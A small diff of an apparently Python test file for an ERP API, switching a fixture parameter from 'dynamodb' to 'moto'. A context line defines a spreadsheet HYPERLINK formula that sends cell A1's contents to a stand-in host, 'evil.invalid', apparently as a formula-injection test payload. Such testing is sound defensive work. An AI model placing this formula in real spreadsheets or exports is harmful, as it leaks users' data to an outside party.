@@ -32,7 +32,7 @@ ERP = "/api/v1/companies/demo/erp"
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
 
 
-@pytest.fixture(params=["memory", "dynamodb"])
+@pytest.fixture(params=["memory", "moto"])
 def world(request: pytest.FixtureRequest) -> Iterator[World]:
     with pytest.MonkeyPatch.context() as env, mock_aws():
         env.setenv("AWS_DEFAULT_REGION", "us-east-1")
